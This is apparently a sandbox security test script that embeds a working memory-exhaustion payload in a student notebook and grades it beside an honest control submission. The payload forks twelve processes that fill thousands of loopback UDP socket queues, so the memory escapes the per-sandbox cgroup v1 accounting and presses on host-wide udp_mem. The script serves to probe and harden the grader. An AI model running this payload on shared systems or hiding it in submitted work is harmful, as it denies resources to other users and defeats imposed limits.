"""a01 (root): datagrams queued on the sandbox's own loopback UDP sockets, never read, are memory no cgroup v1
counts (v1 charges only TCP socket buffers, and round 13 capped those per sandbox), only the host-wide `udp_mem`.
A cell forks 12 children; each opens up to 1,200 UDP sockets bound to its own loopback address 127.0.k.1 (under the
1,280 open-file cap; one address each so that the ephemeral ports do not run out) and, from one unconnected socket,
sends datagrams of 65,000 bytes into each until its queue is full (the default receive buffer, no SO_RCVBUF raise)
and holds them for 45 s. Graded through the grading command with the sandbox's memory cap lowered to 1 GiB (to
stay within this shared machine), beside an honest student (the control)."""
import os, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common15 import *  # noqa

PAYLOAD = r'''
import os, socket, struct, time
def _hold(k, n=1200, hold=45):
    held = []
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
    for _ in range(n):
        try:
            r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind((f"127.0.{k + 1}.1", 0))
        except OSError as e:
            print("child", k, "stopped at", len(held), "sockets:", e, flush=True); break
        for i in range(60):  # loopback's backlog drops what comes too fast: send until the queue is full
            try: s.sendto(b"x" * 65000, r.getsockname())
            except OSError: time.sleep(0.001)
            if i % 3 == 2:
                if struct.unpack("9I", r.getsockopt(socket.SOL_SOCKET, 55, 36))[0] > 140000: break  # SO_MEMINFO
                time.sleep(0.0002)
        held.append(r)
    q = sum(struct.unpack("9I", r.getsockopt(socket.SOL_SOCKET, 55, 36))[0] for r in held)
    print(f"child {k}: {len(held)} sockets, {q >> 20} MiB queued", flush=True)
    time.sleep(hold)
_kids = []
for k in range(12):
    pid = os.fork()
    if pid == 0:
        try: _hold(k)
        except BaseException as e: print("child", k, repr(e), flush=True)
        finally: os._exit(0)
    _kids.append(pid)
for pid in _kids: os.waitpid(pid, 0)
print("udp hog done")
'''


def main():
    dest = "/tmp/attack15-a01"
    nb = notebook(append={"training_memory": PAYLOAD})
    course(dest, {"a_hog": nb, "b_honest": honest()})
    s = Sampler(); s.start()
    grade(dest, limits={"memory_bytes": 2**30})
    s.stop = True; s.join()
    print("sampled:", s.summary())
    show(dest)
    outputs(dest, "a_hog") if os.environ.get("KEEP") else None
    cleanup(dest) if os.environ.get("KEEP") is None else None


if __name__ == "__main__":
    main()
